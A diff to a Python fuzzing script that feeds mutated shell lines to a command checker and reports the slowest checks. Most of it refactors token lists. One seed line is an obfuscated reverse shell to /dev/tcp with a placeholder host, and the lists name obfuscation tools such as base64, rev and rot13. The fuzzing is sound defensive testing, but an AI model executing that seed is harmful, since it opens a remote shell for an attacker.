@@ -34,79 +34,16 @@ SEEDS = (
     "gzip -d <<< x | tr a-z n-za-m | rev | tee f | bash -i >& /dev/tcp/h/1 0>&1",
     "naïve ✓ \U0001f600 | wget ünïcode; echo \"\\$x\" '\\' \\",
 )
+_SYNTAX = (
+    r"$( ${ $(( <( >( (( [[ ]] << <<- <<< >> 2>&1 &> && || |& ;; $' $@ $* $1 ${IFS} \x77 {1..9} {a,b} a() a=( $[ x)"
+)
+_NAMES = "if then else fi for in do done while until case esac function ! select time sudo sh -c eval exec echo -e"
+_MORE_NAMES = "base64 -d xargs env find -exec rev tr a-z n-za-m printf python perl -c alias set -- read cd awk EOF"
 PIECES = (
     *"()[]{}<>|&;$`'\"\\#!*?~=+-/@:%^,. \n\t\r\0\x01é\U0001f600\ud800",
-    *[
-        "$(",
-        "${",
-        "$((",
-        "<(",
-        ">(",
-        "((",
-        "[[",
-        "]]",
-        "<<",
-        "<<-",
-        "<<<",
-        ">>",
-        "2>&1",
-        "&>",
-        "&&",
-        "||",
-        "|&",
-        ";;",
-        "$'",
-        '$"',
-        "$@",
-        "$*",
-        "$1",
-        "${IFS}",
-        "\\\n",
-    ],
-    *[
-        "if",
-        "then",
-        "else",
-        "fi",
-        "for",
-        "in",
-        "do",
-        "done",
-        "while",
-        "until",
-        "case",
-        "esac",
-        "function",
-        "{",
-        "}",
-        "!",
-        "select",
-        "time",
-        "coproc",
-    ],
-    *[
-        "sudo",
-        "sh",
-        "-c",
-        "eval",
-        "exec",
-        "echo",
-        "-e",
-        "base64",
-        "-d",
-        "xargs",
-        "env",
-        "find",
-        "-exec",
-        "rev",
-        "tr",
-        "a-z",
-        "n-za-m",
-        "printf",
-        "\\x77",
-        "python",
-        "-c",
-    ],
+    *_SYNTAX.split(),
+    *_NAMES.split(),
+    *_MORE_NAMES.split(),
 )
 
 
@@ -146,7 +83,7 @@ def check(text: str, state: ShellState) -> ShellState:
 
 def fuzz(count: int, seed: int = 1) -> list[tuple[float, str]]:
     """Checks ``count`` mutated lines; returns the slowest with their milliseconds."""
-    source = random.Random(seed)
+    source = random.Random(seed)  # noqa: S311 (repeatable on purpose)
     slowest: list[tuple[float, str]] = []
     state = EMPTY
     for number in range(count):
@@ -157,7 +94,7 @@ def fuzz(count: int, seed: int = 1) -> list[tuple[float, str]]:
         try:
             state = check(text, state)
         except Exception:
-            print(repr(text))
+            print(repr(text))  # noqa: T201 (a script)
             raise
         slowest.append(((perf_counter() - begun) * 500, text))  # two views per check
         if len(slowest) > 1000:
@@ -167,4 +104,4 @@ def fuzz(count: int, seed: int = 1) -> list[tuple[float, str]]:
 
 if __name__ == "__main__":
     for milliseconds, text in fuzz(int(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 1):
-        print(f"{milliseconds:8.2f} ms  {len(text)} characters  {text[:150]!r}")
+        print(f"{milliseconds:8.2f} ms  {len(text)} characters  {text[:150]!r}")  # noqa: T201 (a script)
